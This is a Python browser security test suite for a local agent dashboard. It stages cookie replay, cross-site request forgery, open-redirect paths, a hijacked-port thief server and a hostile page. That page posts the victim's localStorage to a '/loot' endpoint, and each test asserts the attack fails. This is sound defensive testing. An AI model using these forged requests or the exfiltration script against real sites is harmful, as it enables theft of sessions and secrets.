"""Attacks on what a browser keeps: by another server on the same host, which the browser sends its cookies to, by pages
of it, and by whoever reads a link, an address or the file of logins."""

from __future__ import annotations

import json
from http.client import HTTPConnection
from pathlib import Path

import pytest
from playwright.sync_api import Browser, Page, expect

from tests.attacks.hostile import Hostile
from tests.attacks.stranger import Stranger
from tests.attacks.test_gateway import KEY, gateway
from tests.browser.chromium import TIMEOUT, close
from tests.browser.recordings import assistant_message
from tests.browser.serving import Site, arrived
from tests.http_server import HttpServer

SECRET = "the-agent-printed-this"
ADDRESSES = (
    *("/", "/events/1", "/cards", "/cards/1", "/live", "/logins", "/nothing"),
    *("/api/events", "/api/events/1", "/api/sessions", "/api/stats", "/api/logins", "/metrics"),
)
TELLING = ("/api/answer", "/api/send", "/api/interrupt")
CHANGES = ("/pass", "/login", "/api/logins", "/logins/end", "/preferences", *TELLING)


@pytest.fixture(scope="module", autouse=True)
def _printed(site: Site) -> None:
    agent = site.publish("attacked", "claude-stream")
    agent.write(assistant_message(SECRET, 1))
    agent.finish()


@pytest.fixture
def page(site: Site, victim: Page) -> Page:
    """A tab of a browser that is logged in, on the page of the agent."""
    site.open(victim, f"{site.url}/events?stream=attacked")
    expect(victim.locator("article.message")).to_contain_text(SECRET)
    return victim


def port_of(site: Site) -> int:
    return int(site.url.rpartition(":")[2])


def replayed(
    site: Site, method: str, target: str, headers: dict[str, str], body: bytes | None = None
) -> tuple[int, bytes]:
    """Ask as a program can that forges whatever a browser would send."""
    connection = HTTPConnection("127.0.0.1", port_of(site), timeout=30)
    try:
        connection.request(method, target, body, headers)
        response = connection.getresponse()
        assert response.getheader("set-cookie") is None
        return response.status, response.read()
    finally:
        connection.close()


def assert_worthless(site: Site, cookie: str) -> None:
    """Whoever has what a browser sends to other ports gets in nowhere with it."""
    [ours] = [part for part in cookie.split("; ") if part.startswith(f"tooltap-{port_of(site)}=")]
    value = ours.partition("=")[2]
    name, _, random = value.partition(".")
    forged = {"Origin": site.url, "Sec-Fetch-Site": "same-origin", "Cookie": cookie}
    opened = {**forged, "Sec-Fetch-Mode": "navigate", "Sec-Fetch-Dest": "document", "Accept": "text/html"}
    attempts = [
        *(forged, opened),
        *({**forged, "Authorization": f"Bearer {one}"} for one in (value, random, name, site.url)),
        *({**forged, "Tooltap-Page": one} for one in (value, random, name)),
        *({"Authorization": f"Bearer {one}"} for one in (value, random)),
    ]

    assert site.token not in cookie
    login_page = replayed(site, "GET", "/", opened)
    for headers in attempts:
        for address in (*ADDRESSES, *(f"{one}?pass={random}" for one in ADDRESSES), f"/?pass=0.{random}"):
            answer = replayed(site, "GET", address, headers)
            assert answer[0] == 403 or answer == login_page
            assert SECRET.encode() not in answer[1]
        for address in CHANGES:
            assert replayed(site, "POST", address, headers, b"id=all")[0] == 403
        assert replayed(site, "DELETE", f"/api/logins/{name}", headers)[0] == 403


def test_cookies_that_another_port_gets_are_worthless(site: Site, page: Page, hostile: Hostile) -> None:
    page.goto(hostile.page())

    assert_worthless(site, hostile.loot[0])


def test_cookies_that_the_server_behind_the_gateway_gets_are_worthless(site: Site, page: Page, tmp_path: Path) -> None:
    with gateway(tmp_path) as served:
        page.goto(f"{served.url}/key-{KEY}/models")

    assert_worthless(site, served.cookies[0])


def test_secret_and_passes_never_leave_the_origin(site: Site, page: Page, hostile: Hostile) -> None:
    """Neither in a header nor in an address, also if the browser goes there by a link in our page."""
    secret = page.evaluate("localStorage.getItem('tooltap')")
    report = "fetch('/loot', {method: 'POST', body: JSON.stringify({...localStorage})})"
    away = hostile.page(f"{report}.then(() => document.title = 'done')")
    page.evaluate(
        "url => { const link = Object.assign(document.createElement('a'), {href: url}); document.body.append(link);"
        " link.click(); }",
        away,
    )
    page.wait_for_url(away)
    page.wait_for_function("document.title === 'done'")

    assert hostile.loot[-1] == "{}"
    for request in hostile.requests:
        said = str(request)
        assert secret not in said
        assert "pass=" not in said
        assert site.url not in said


ATTEMPTS = """
const ANSWER = '{"permissionId":"p","outcome":"allowed"}';
const refused = (path, options) => fetch(URL_OF + path, {credentials: "include", ...options})
    .then(answer => answer.type === "opaque" ? "opaque" : answer.text(), () => "refused");
const streamed = new Promise(resolve => {
    const source = new EventSource(URL_OF + "/live?after=0", {withCredentials: true});
    source.onmessage = () => resolve("read");
    source.onerror = () => { source.close(); resolve("refused"); };
});
const framed = name => new Promise(resolve => document.querySelector(`[name=${name}]`).onload = resolve);
const posted = framed("posted");
document.forms[0].submit();
window.outcome = Promise.all([
    refused("/pass", {method: "POST", body: "/"}),
    refused("/login", {method: "POST", body: "guess"}),
    refused("/", {headers: {"Tooltap-Page": "guess"}}),
    refused("/static/origin.js"),
    refused("/api/logins", {method: "POST"}),
    refused("/api/answer", {method: "POST", body: ANSWER}),
    refused("/api/answer", {method: "POST", body: ANSWER, headers: {"Content-Type": "application/json"}}),
    refused("/api/send", {method: "POST", body: '{"session":"s","text":"x"}', mode: "no-cors"}),
    refused("/api/answer?permissionId=p&outcome=allowed"),
    import(URL_OF + "/static/origin.js").then(() => "imported", () => "refused"),
    streamed,
    posted.then(() => "refused"),
]);
"""
BODY = """
<iframe src="{url}/"></iframe><iframe name="posted"></iframe>
<form method="post" action="{url}/logins/end" target="posted"><input name="id" value="all"></form>
"""


@pytest.mark.parametrize("host", ["127.0.0.1", "localhost"])
def test_hostile_page_gets_nothing(site: Site, page: Page, hostile: Hostile, host: str) -> None:
    script = f"const URL_OF = {json.dumps(site.url)};{ATTEMPTS}"
    page.goto(hostile.page(script, BODY.format(url=site.url), host=host))
    outcome = page.evaluate("window.outcome")
    frames = [frame.content() for frame in page.frames]

    assert outcome == ["refused"] * 12
    assert len(frames) == 3
    assert not [one for one in frames if SECRET in one]
    site.open(page, f"{site.url}/events?stream=attacked")  # it is still logged in
    expect(page.locator("article.message")).to_contain_text(SECRET)


def test_window_that_a_hostile_page_opens_tells_it_nothing(site: Site, page: Page, hostile: Hostile) -> None:
    page.goto(hostile.page())
    with page.context.expect_page() as opening:
        page.evaluate("url => { window.opened = open(url); }", f"{site.url}/events?stream=attacked")
    arrived(opening.value)
    expect(opening.value.locator("article.message")).to_contain_text(SECRET)
    page.wait_for_function("() => window.opened.closed")  # severed: another group of windows

    assert opening.value.evaluate("window.opener") is None


@pytest.mark.parametrize("host", ["127.0.0.1", "localhost"])
def test_link_from_elsewhere_opens_after_one_step(site: Site, page: Page, hostile: Hostile, host: str) -> None:
    """As from a chat or an issue tracker: another site, which knows an address of ours and nothing else."""
    address = f"{site.url}/events?stream=attacked"
    page.goto(hostile.page(body=f'<a href="{address}">see</a>', host=host))
    page.get_by_role("link").click()

    expect(page.locator("article.message")).to_contain_text(SECRET)
    expect(page).to_have_url(address)


def test_login_page_leads_to_no_other_host(site: Site, page: Page, hostile: Hostile) -> None:
    """A path that begins with two slashes, in a script that opens it, is the name of a host."""
    for slashes in ("//", "///", "//x//", "/\\", "//x/\\"):
        page.goto(f"{site.url}{slashes}{hostile.url.removeprefix('http://')}/page-1?x=1")
        arrived(page)

        assert page.url.startswith(f"{site.url}/")
        assert "there is nothing at this address" in page.content()
    assert hostile.requests == []


def test_link_that_somebody_else_reads_was_used(browser: Browser, site: Site) -> None:
    """From the scrollback of a terminal, a list of processes or the history of the browser."""
    link = site.link(stream="attacked")
    for is_first in (True, False):
        context = browser.new_context()
        context.set_default_timeout(TIMEOUT)
        page = context.new_page()
        page.goto(link)
        if is_first:
            expect(page.locator("article.message")).to_contain_text(SECRET)
            assert "login" not in page.url
        else:
            expect(page.get_by_role("alert")).to_have_text("This link was used before, or is too old.")
            assert SECRET not in page.content()
            assert context.cookies() == []
        close(context)


def test_ending_a_login_ends_what_was_stolen_of_it(tmp_path: Path, browser: Browser) -> None:
    """Who takes the daemon's port while it is away has its origin, and so the secret: that login must be ended, and
    then nothing of it is left."""
    with Site(tmp_path) as site:
        context = browser.new_context()
        context.set_default_timeout(TIMEOUT)
        page = context.new_page()
        site.enter(page)
        site.kill()
        with HttpServer(
            lambda _, answer: answer.whole(200, b"<!doctype html>", "Content-Type: text/html"), port_of(site)
        ) as thief:
            page.goto(thief.url)
            secret = page.evaluate("localStorage.getItem('tooltap')")
            cookie = thief.requests[0].header("cookie") or ""
        close(context)
        site.start()
        stolen = {"Cookie": cookie, "Tooltap-Page": secret}
        assert replayed(site, "GET", "/api/stats", stolen)[0] == 200  # what is left: see docs/explanation/browsers.md
        assert replayed(site, "POST", "/api/logins", stolen)[0] == 403  # but it does not become anything that lasts
        name = cookie.partition("=")[2].partition(".")[0]
        assert replayed(site, "DELETE", f"/api/logins/{name}", {"Authorization": f"Bearer {site.token}"})[0] == 200

        for headers in (stolen, {**stolen, "Authorization": f"Bearer {secret}"}):
            assert replayed(site, "GET", "/api/stats", headers)[0] == 403


def read(path: str) -> bytes:
    with open(path, "rb") as file:
        return file.read()


def test_other_users_read_neither_token_nor_logins(site: Site, page: Page, stranger: Stranger) -> None:
    files = [one for one in next(site.directory.rglob("web-token")).parent.iterdir() if "web-token" in one.name]

    assert len(files) == 2
    for one in files:
        assert one.stat().st_mode & 0o077 == 0
        with pytest.raises(PermissionError):
            stranger.run(read, one)
